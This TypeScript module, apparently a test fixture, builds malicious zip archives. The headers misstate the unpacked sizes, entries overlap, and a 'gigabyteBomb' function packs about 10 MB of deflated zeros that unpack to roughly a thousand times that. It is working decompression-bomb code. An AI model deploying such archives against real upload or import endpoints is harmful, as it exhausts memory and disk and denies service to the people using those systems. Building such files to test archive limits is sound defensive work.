import { deflateRawSync } from 'node:zlib';

/** One entry as the bomb maker writes it: its packed bytes, and what the headers claim. */
export interface BombEntry {
  name: string;
  packed: Buffer;
  /** The unpacked size the headers declare (a liar declares less than the data inflates to). */
  declared: number;
  method?: 0 | 8;
  /** Point this entry's central record at another entry's local header (overlapping entries). */
  sameAs?: number;
}

/** zeros deflated: about 1,000 times smaller than they unpack. */
export function deflatedZeros(bytes: number): Buffer {
  return deflateRawSync(Buffer.alloc(bytes), { level: 9 });
}

/** Writes a zip from entries whose headers say whatever the attacker wants. */
export function buildZip(entries: BombEntry[]): Buffer {
  const parts: Buffer[] = [];
  const centrals: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  entries.forEach((entry, i) => {
    const name = Buffer.from(entry.name);
    const method = entry.method ?? 8;
    let at = offset;
    if (entry.sameAs === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(method, 8);
      local.writeUInt32LE(entry.packed.length, 18);
      local.writeUInt32LE(entry.declared, 22);
      local.writeUInt16LE(name.length, 26);
      parts.push(local, name, entry.packed);
      offset += 30 + name.length + entry.packed.length;
    } else {
      at = offsets[entry.sameAs] as number;
    }
    offsets[i] = at;
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(entry.packed.length, 20);
    central.writeUInt32LE(entry.declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at, 42);
    centrals.push(central, entry.sameAs === undefined ? name : Buffer.from(entries[entry.sameAs]!.name));
  });
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, dir, end]);
}

/**
 * About `megabytes` MB of zip that claims a thousand times as much: copies
 * of one deflated block of zeros, each honestly declaring 100 MB.
 */
export function gigabyteBomb(megabytes = 10): Buffer {
  const block = deflatedZeros(100 * 1024 * 1024);
  const count = Math.max(1, Math.floor((megabytes * 1024 * 1024) / block.length));
  return buildZip(Array.from({ length: count }, (_, i) => ({ name: `items/${String(i).padStart(4, '0')}.json`, packed: block, declared: 100 * 1024 * 1024 })));
}
